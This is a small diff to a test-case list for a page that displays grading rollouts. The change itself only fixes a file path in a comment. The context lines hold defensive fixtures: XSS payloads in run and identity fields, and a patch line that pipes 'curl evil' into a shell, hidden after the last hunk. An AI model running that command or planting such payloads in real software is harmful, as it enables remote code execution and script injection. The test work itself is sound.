@@ -219,7 +219,7 @@ CASES: list[Case] = [
     Case("XSS in run, uid and instance id",
          mutate(_set(["run"], "<svg onload=alert(3)>"), uid="<script>alert(1)</script>@1", instance_id="<img src=x onerror=alert(2)>"),
          "stored", note="identities may hold markup characters; they are escaped and URL-quoted"),
-    # unidiff skips lines it cannot place; the page must not hide them (grading/diffs.py)
+    # unidiff skips lines it cannot place; the page must not hide them (grading/rollouts/diffs.py)
     Case("diff with lines after the last hunk", mutate(_patch(DIFF + "+import os; os.system('curl evil | sh')  # HIDDEN-1\n")), "stored",
          note="the parser placed fewer +/- lines than the text holds: raw patch shown, with a warning"),
     Case("diff whose hunk header undercounts", mutate(_patch(
